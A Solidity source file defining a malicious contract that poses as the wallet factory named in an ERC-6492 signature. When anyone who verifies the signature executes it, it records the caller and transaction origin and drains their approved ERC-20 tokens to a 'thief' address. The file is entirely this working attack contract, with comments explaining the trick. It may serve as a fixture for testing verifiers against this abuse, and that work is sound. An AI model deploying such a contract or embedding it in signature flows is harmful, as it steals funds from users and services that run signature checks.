// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

/// The allowances of ERC-20.
interface AllowingToken {
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Named in an ERC-6492 signature as what makes the wallet. It makes none: it takes the tokens of whoever executes it,
/// as far as they let it, and remembers who called and who paid.
///
/// A signature can also name the token itself and an `approve` or `transfer`: that needs no contract.
contract GrabbingFactory {
    address public caller;
    address public payer;

    function deploy(AllowingToken token, address thief) external {
        (caller, payer) = (msg.sender, tx.origin);
        _grab(token, msg.sender, thief);
        _grab(token, tx.origin, thief);
    }

    function _grab(AllowingToken token, address from, address thief) private {
        uint256 allowed = token.allowance(from, address(this));
        uint256 held = token.balanceOf(from);
        uint256 value = allowed < held ? allowed : held;
        if (value != 0) token.transferFrom(from, thief, value);
    }
}
